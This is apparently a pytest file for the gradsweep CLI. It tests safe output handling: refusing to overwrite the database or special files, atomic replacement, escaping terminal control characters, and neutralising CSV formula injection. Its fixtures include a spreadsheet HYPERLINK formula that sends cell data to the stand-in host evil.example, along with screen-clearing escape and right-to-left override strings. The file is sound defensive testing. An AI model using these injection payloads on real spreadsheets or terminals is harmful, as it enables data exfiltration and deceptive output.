"""What the commands write and print, against what a tester threw at them (docs/reliability.md,
"Outputs", "Safe output", "Internal errors"): every ``--out`` checked and put in place
atomically, user-supplied text escaped on a terminal and neutralised in CSV, oversized and
non-finite numbers refused in one line. Real CLI runs (``gradsweep.cli.run``, in-process,
and a real process where the exit path matters) on real SQLite files and PostgreSQL."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest
from rich.console import Console

from gradsweep.cli import print_failure_summary
from gradsweep.console import LONG_TEXT, visible
from gradsweep.dashboards.report import GENERATOR
from gradsweep.errors import GradsweepError
from gradsweep.outfiles import FileKind, check_target, replace_atomically
from gradsweep.storage.engine import open_engine
from gradsweep.storage.records import StudyRecord, TrialRecord
from gradsweep.storage.writer import ResultsWriter
from tests.dashboards.study import T0, add_static, build_three_task_study
from tests.fuzz_helpers import Ran, assert_kept_its_promise, run_cli

HUGE = "99999999999999999999999"  # beyond SQLite's (and torch's) 64-bit integers
ESC = "\x1b[2J"  # clears the screen
RLO = "\u202e"  # right-to-left override: reverses what follows it on screen
EVIL_STUDY = f"evil{ESC}{RLO}name"
LONG_REASON = f"RuntimeError: {ESC}" + "y" * 200_000
# a failed trial's reason (key, error): what a spreadsheet would run, and what it would not
FORMULAS = {
    "f/hyperlink/s0": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "f/plus/s0": "+1@SUM(A1)",
    "f/minus/s0": "-2+3",
    "f/at/s0": "@cmd",
    "f/tab/s0": "\tleading tab",
    "f/cr/s0": "\rleading carriage return",
    "f/quote/s0": "'already quoted",
    "f/number/s0": "-1.5",
    "f/plain/s0": "ValueError: nothing to see",
}
NEUTRALISED = {
    "f/hyperlink/s0": "'" + FORMULAS["f/hyperlink/s0"],
    "f/plus/s0": "'+1@SUM(A1)",
    "f/minus/s0": "'-2+3",
    "f/at/s0": "'@cmd",
    "f/tab/s0": "'\tleading tab",
    "f/cr/s0": "'\rleading carriage return",
    "f/quote/s0": "''already quoted",
    "f/number/s0": "-1.5",  # a plain number: a spreadsheet reads it as one, no formula
    "f/plain/s0": "ValueError: nothing to see",
}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def db_file(url: str) -> Path:
    return Path(url.removeprefix("sqlite:///"))


def refused(ran: Ran, *words: str) -> None:
    """Exit 2 with one line on stderr that says ``words``."""
    assert ran.code == 2, (ran.code, ran.err)
    assert_kept_its_promise(ran, [], allowed=(2,))
    for word in words:
        assert word in ran.err, ran.err


def build_evil_study(url: str) -> None:
    """A study whose name, keys, task names and failure reasons hold what a terminal or a
    spreadsheet would act on, and a completed trial with a negative alpha."""
    writer = ResultsWriter(open_engine(url))
    tasks = ["task0", f"task{ESC}1", f"t{RLO}ask2"]
    study = writer.get_or_create_study(
        StudyRecord(EVIL_STUDY, "{}", "evil", "toy", tasks, "normalized_loss")
    )
    add_static(writer, study, "random/i000/s0", [1.0, 1.0, 1.0], 0)
    records = [
        TrialRecord(key, "random", "static", {}, [1.0, 2.0, 0.0], -2.0, 0) for key in FORMULAS
    ]
    records.append(
        TrialRecord(f"k{ESC}\nsplit/s0", "random", "static", {}, [2.0, 1.0, 0.0], None, 0)
    )
    records.append(TrialRecord("long/s0", "random", "static", {}, [0.0, 1.0, 2.0], None, 0))
    ids = writer.upsert_trials(study, records)
    for key, trial in ids.items():
        writer.mark_running(trial, "n", "cpu", T0)
        error = FORMULAS.get(key, LONG_REASON if key == "long/s0" else f"boom{ESC}\nsecond line")
        trace = f"Traceback (most recent call last):\n  line {ESC}1\n{'z' * 5000}\n{error[:40]}"
        writer.fail_trial(trial, error, traceback=trace)


@pytest.fixture
def study(sqlite_url: str) -> str:
    build_three_task_study(sqlite_url)
    return sqlite_url


def cli(*args: str) -> Ran:
    return run_cli(list(args))


# --- report --out ------------------------------------------------------------------------


def test_report_refuses_the_database_it_reads(study: str) -> None:
    db = db_file(study)
    before = digest(db)
    refused(cli("report", "three", "--out", str(db), "--db", study), "results database")
    refused(cli("report", "three", "--out", str(db), "--force", "--db", study), "database")
    assert digest(db) == before
    assert cli("status", "three", "--db", study).code == 0  # still a database


def test_report_refuses_the_database_through_a_link_or_a_companion(
    study: str, tmp_path: Path
) -> None:
    db = db_file(study)
    before = digest(db)
    (tmp_path / "link.html").symlink_to(db)
    os.link(db, tmp_path / "hard.html")  # the same inode under another name
    for target in ("link.html", "hard.html", f"{db.name}-wal", f"{db.name}-journal"):
        ran = cli("report", "three", "--out", str(tmp_path / target), "--db", study)
        refused(ran, "results database")
    assert digest(db) == before and (tmp_path / "link.html").is_symlink()


def test_report_refuses_special_files(study: str, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    refused(cli("report", "three", "--out", str(fifo), "--db", study), "a FIFO")
    refused(cli("report", "three", "--out", str(fifo), "--force", "--db", study), "a FIFO")
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    refused(cli("report", "three", "--out", "/dev/null", "--force", "--db", study), "device")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    refused(cli("report", "three", "--out", str(tmp_path), "--db", study), "expected an HTML file")
    refused(cli("report", "three", "--out", f"{tmp_path}/new/", "--db", study))
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("out", ["/proc/report.html", "/proc/self/status", "/sys/r.html"])
def test_report_into_an_unwritable_place_is_one_line(study: str, out: str) -> None:
    refused(cli("report", "three", "--out", out, "--db", study), "--out")


def test_report_replaces_only_its_own_kind_unless_forced(study: str, tmp_path: Path) -> None:
    mine = tmp_path / "notes.html"
    mine.write_text("<p>my own notes</p>")
    refused(cli("report", "three", "--out", str(mine), "--db", study), "--force")
    assert mine.read_text() == "<p>my own notes</p>"
    spec = tmp_path / "spec.yaml"
    spec.write_text("study: x\n")
    refused(cli("report", "three", "--out", str(spec), "--db", study), "not an HTML report")
    assert spec.read_text() == "study: x\n"
    ran = cli("report", "three", "--out", str(mine), "--force", "--db", study)
    assert ran.code == 0, ran.err
    assert GENERATOR in mine.read_text()[:1000]


def test_report_replaces_its_own_report_atomically(db_url: str, tmp_path: Path) -> None:
    build_three_task_study(db_url)
    (tmp_path / "reports").mkdir()
    out = tmp_path / "reports" / "report.html"
    assert cli("report", "three", "--out", str(out), "--db", db_url).code == 0
    out.chmod(0o600)
    first = out.stat().st_ino
    ran = cli("report", "three", "--out", str(out), "--db", db_url)
    assert ran.code == 0, ran.err
    assert out.stat().st_ino != first  # a new file renamed into place, not rewritten
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # its permissions kept
    assert [p.name for p in out.parent.iterdir()] == ["report.html"]  # no temporary left


def test_report_replaces_an_older_report_an_empty_file_and_writes_through_a_link(
    study: str, tmp_path: Path
) -> None:
    older = tmp_path / "older.html"
    older.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'><title>gradsweep report: "
                     "three</title></head><body></body></html>")  # fmt: skip
    empty = tmp_path / "empty.html"
    empty.touch()
    real = tmp_path / "real.html"
    real.write_text(f"<html><head>{GENERATOR}</head></html>")
    (tmp_path / "link.html").symlink_to(real)
    for name in ("older.html", "empty.html", "link.html"):
        ran = cli("report", "three", "--out", str(tmp_path / name), "--db", study)
        assert ran.code == 0, (name, ran.err)
    assert "Plotly.newPlot" in older.read_text() and "Plotly.newPlot" in empty.read_text()
    assert (tmp_path / "link.html").is_symlink() and "Plotly.newPlot" in real.read_text()


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "kept.html"
    target.write_text("old")

    def full_disk(path: Path) -> None:
        path.write_text("half")
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(GradsweepError, match="No space left on device"):
        replace_atomically("--out", target, full_disk)
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["kept.html"]
    with pytest.raises(GradsweepError, match="a part of the path|cannot use|cannot write"):
        check_target("--out", target / "x.html", FileKind("x", lambda _: True))


# --- export --out ------------------------------------------------------------------------


def test_export_refuses_the_database_and_special_files(study: str, tmp_path: Path) -> None:
    db = db_file(study)
    before = digest(db)
    refused(cli("export", "three", "--out", str(db), "--db", study), "results database")
    refused(cli("export", "three", "--out", "/dev/null", "--db", study), "not a folder")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    refused(cli("export", "three", "--out", str(fifo), "--db", study), "not a folder")
    refused(cli("export", "three", "--out", "/proc/export", "--db", study), "--out")
    assert digest(db) == before and stat.S_ISFIFO(fifo.stat().st_mode)


def test_export_refuses_a_file_it_did_not_write_and_writes_nothing(
    study: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    precious = out / "three-curves.csv"
    precious.write_text("my hand-made table\n1,2\n")
    refused(cli("export", "three", "--out", str(out), "--format", "csv", "--db", study),
            "three-curves.csv", "--force")  # fmt: skip
    assert precious.read_text() == "my hand-made table\n1,2\n"
    assert sorted(p.name for p in out.iterdir()) == ["three-curves.csv"]  # nothing else
    (out / "three-weights.parquet").write_bytes(b"not parquet at all")
    refused(cli("export", "three", "--out", str(out), "--db", study), "three-weights.parquet")
    ran = cli("export", "three", "--out", str(out), "--format", "csv", "--force", "--db", study)
    assert ran.code == 0, ran.err
    assert pd.read_csv(precious).columns[0] == "key"


def test_export_refuses_links_to_the_database_and_folders(study: str, tmp_path: Path) -> None:
    db = db_file(study)
    before = digest(db)
    out = tmp_path / "out"
    out.mkdir()
    (out / "three-trials.csv").symlink_to(db)
    (out / "three-curves.csv").mkdir()
    for force in ([], ["--force"]):
        ran = cli("export", "three", "--out", str(out), "--format", "csv", *force, "--db", study)
        refused(ran, "results database")
    (out / "three-trials.csv").unlink()
    ran = cli("export", "three", "--out", str(out), "--format", "csv", "--force", "--db", study)
    refused(ran, "three-curves.csv is a folder")
    assert digest(db) == before


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_replaces_its_own_files(db_url: str, tmp_path: Path, fmt: str) -> None:
    build_three_task_study(db_url)
    out = tmp_path / "out"
    for _ in range(2):
        ran = cli("export", "three", "--out", str(out), "--format", fmt, "--db", db_url)
        assert ran.code == 0, ran.err
    names = sorted(p.name for p in out.iterdir())
    assert names == [f"three-{kind}.{fmt}" for kind in ("curves", "trials", "weights")]


# --- safe output: the terminal -----------------------------------------------------------


def assert_escaped(text: str) -> None:
    """No control or format character reached the output, and they show escaped."""
    assert "\x1b" not in text and RLO not in text and "\x00" not in text, repr(text[:300])
    assert "\\x1b[2J" in text


def test_status_shows_control_characters_escaped(sqlite_url: str) -> None:
    build_evil_study(sqlite_url)
    table = cli("status", "--db", sqlite_url)
    assert table.code == 0, table.err
    assert_escaped(table.out)
    assert "evil\\x1b[2J\\u202ename" in table.out
    one = cli("status", "1", "--db", sqlite_url)
    assert one.code == 0, one.err
    assert_escaped(one.out)
    assert "k\\x1b[2J\\nsplit/s0: boom\\x1b[2J\\nsecond line" in one.out  # one line each


def test_status_cuts_a_long_reason_and_says_where_it_is_whole(sqlite_url: str) -> None:
    build_evil_study(sqlite_url)
    ran = cli("status", "1", "--db", sqlite_url)
    assert ran.code == 0, ran.err
    assert max(len(line) for line in ran.out.splitlines()) < LONG_TEXT + 200
    assert f"… ({len(visible(LONG_REASON)) - LONG_TEXT:,} more characters)" in ran.out
    assert "whole reasons and every traceback: add --format json" in ran.out
    data = json.loads(cli("status", "1", "--format", "json", "--db", sqlite_url).out)
    assert LONG_REASON in [f["error"] for f in data["failures"]]  # whole in the JSON


def test_query_table_escapes_and_cuts_cells(sqlite_url: str) -> None:
    build_evil_study(sqlite_url)
    ran = cli("query", "trials", "--study", "1", "--db", sqlite_url)
    assert ran.code == 0, ran.err
    assert_escaped(ran.out)
    assert "k\\x1b[2J\\nsplit/s0" in ran.out  # the newline shown, the row whole
    assert "cells longer than 500 characters are cut: --format csv or --format json" in ran.out
    assert max(len(line) for line in ran.out.splitlines()) < 2 * LONG_TEXT + 1000


def test_markup_in_a_name_is_text_not_markup(sqlite_url: str) -> None:
    writer = ResultsWriter(open_engine(sqlite_url))
    writer.get_or_create_study(
        StudyRecord("[/x] [bold]b", "{}", "m", "toy", ["a"], "normalized_loss")
    )
    ran = cli("status", "--db", sqlite_url)
    assert ran.code == 0, ran.err  # rich's MarkupError was an internal error
    assert "[/x] [bold]b" in ran.out


def test_train_summary_escapes_and_cuts(tmp_path: Path) -> None:
    from gradsweep.arms import TrialStatus
    from gradsweep.single_run import print_summary
    from gradsweep.trainers import TrainResult

    result = TrainResult(
        status=TrialStatus.FAILED, error=f"[/red] {ESC}" + "e" * 10_000,
        problem={"name": f"p{ESC}"}, balancer={"name": "gradnorm"}, tasks=[f"t{RLO}0", "t\n1"],
        seed=0, steps=1, device="cpu", weights_final=[1.0, 1.0], weights_mean=[1.0, 1.0],
        initial_test_losses=[1.0, 1.0], test_losses=[1.0, 1.0], test_metrics=[{}, {}],
        normalized_loss=None, train_seconds=0.1,
    )  # fmt: skip
    out = io.StringIO()
    print_summary(result, Console(file=out, width=80))
    text = out.getvalue()
    assert_escaped(text)
    assert "t\\u202e0" in text and "t\\n1" in text and "[/red] \\x1b[2J" in text
    assert "more characters) (--json prints it whole)" in text
    assert max(len(line) for line in text.splitlines()) < LONG_TEXT + 100


def test_a_launch_summary_cuts_a_200000_character_reason(
    capsys: pytest.CaptureFixture[str],
) -> None:
    failure = SimpleNamespace(key=f"static/w=1,1/s0{ESC}", error=LONG_REASON)
    outcome = SimpleNamespace(study="s", failed=1, failures=[failure])
    print_failure_summary(outcome, "sqlite:///x.db")
    err = capsys.readouterr().err
    assert_escaped(err)
    assert max(len(line) for line in err.splitlines()) < LONG_TEXT + 200
    assert "more characters)" in err and "whole reasons and tracebacks: gradsweep status s" in err


# --- safe output: CSV --------------------------------------------------------------------


def csv_errors(text: str) -> dict[str, Any]:
    csv.field_size_limit(1_000_000)  # the 200,000-character reason is one cell
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {row["key"]: row for row in rows}


def check_neutralised(rows: dict[str, Any]) -> None:
    for key, cell in NEUTRALISED.items():
        assert rows[key]["error"] == cell, key
        assert rows[key]["alpha"] == "-2.0"  # a negative number stays a number
    # dropping one leading ' gives back what the trial wrote
    for key, cell in FORMULAS.items():
        written = rows[key]["error"]
        assert (written[1:] if written.startswith("'") else written) == cell


def test_query_csv_neutralises_formulas(sqlite_url: str) -> None:
    build_evil_study(sqlite_url)
    ran = cli("query", "trials", "--study", "1", "--format", "csv", "--db", sqlite_url)
    assert ran.code == 0, ran.err
    check_neutralised(csv_errors(ran.out))


def test_export_csv_neutralises_formulas(db_url: str, tmp_path: Path) -> None:
    build_evil_study(db_url)
    ran = cli("export", "1", "--out", str(tmp_path), "--format", "csv", "--db", db_url)
    assert ran.code == 0, ran.err
    assert_escaped(ran.out)  # the file names hold the study's name
    (trials,) = tmp_path.glob("*-trials.csv")
    check_neutralised(csv_errors(trials.read_bytes().decode("utf-8")))
    # JSON keeps the text as it is: no spreadsheet reads it
    data = json.loads(
        cli("query", "trials", "--study", "1", "--format", "json", "--db", db_url).out
    )
    assert {r["key"]: r["error"] for r in data}["f/minus/s0"] == "-2+3"


# --- internal errors become one line -----------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [["status", HUGE], ["compare", HUGE], ["query", "trials", "--study", HUGE],
     ["query", "curves", "--study", HUGE], ["export", HUGE, "--out", "OUT"],
     ["report", HUGE, "--out", "OUT/r.html"], ["resume", HUGE]],
    ids=lambda argv: " ".join(argv[:2]),
)  # fmt: skip
def test_an_oversized_study_id_is_one_line(db_url: str, tmp_path: Path, argv: list[str]) -> None:
    build_three_task_study(db_url)
    argv = [a.replace("OUT", str(tmp_path)) for a in argv]
    ran = cli(*argv, "--db", db_url)
    refused(ran)
    assert "internal error" not in ran.err


def gradsweep(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gradsweep.cli", *args],
                          capture_output=True, text=True, timeout=300)  # fmt: skip


@pytest.mark.parametrize(
    ("args", "message"),
    [(["--seed", str(10**30)], "--seed: out of range"),
     (["--seed", str(2**64)], "--seed: out of range"),
     (["--steps", HUGE], "--steps: too large"),
     (["--alpha", "inf", "--json"], "--alpha: expected a finite number, got inf"),
     (["--alpha", "nan"], "--alpha: expected a finite number"),
     (["--lr", "-inf"], "--lr: expected a finite number"),
     (["--balancer", "static", "--weights", "1,inf"], "--weights: expected finite numbers"),
     (["--sigmas", "1,nan"], "--sigmas: expected finite numbers")],
    ids=lambda v: " ".join(v) if isinstance(v, list) else "",
)  # fmt: skip
def test_train_refuses_numbers_it_cannot_train_with(args: list[str], message: str) -> None:
    ran = cli("train", "--steps", "2", *args)
    refused(ran, message)


def test_train_json_is_strict_json() -> None:
    """A balancer parameter given as Infinity (JSON's parser takes it) prints as null."""
    run = gradsweep("train", "--balancer", "dwa", "--balancer-param", "temperature=Infinity",
                    "--steps", "3", "--json", "--param", "train_samples=200",
                    "--param", "test_samples=50", "--param", "batch_size=40")  # fmt: skip
    assert run.returncode == 0, run.stderr

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    data = json.loads(run.stdout, parse_constant=refuse)
    assert data["balancer_params"]["temperature"] is None


def test_a_seed_torch_takes_still_trains() -> None:
    ran = cli("train", "--steps", "2", "--seed", str(2**64 - 1), "--json",
              "--param", "train_samples=200", "--param", "test_samples=50")  # fmt: skip
    assert ran.code == 0, ran.err
    assert json.loads(ran.out)["seed"] == 2**64 - 1


def test_oversized_numbers_from_a_real_process(study: str) -> None:
    for args in (["status", HUGE, "--db", study], ["train", "--seed", str(10**30)]):
        run = gradsweep(*args)
        assert run.returncode == 2, run.stderr
        assert run.stderr.count("\n") == 1 and run.stderr.startswith("error: ")
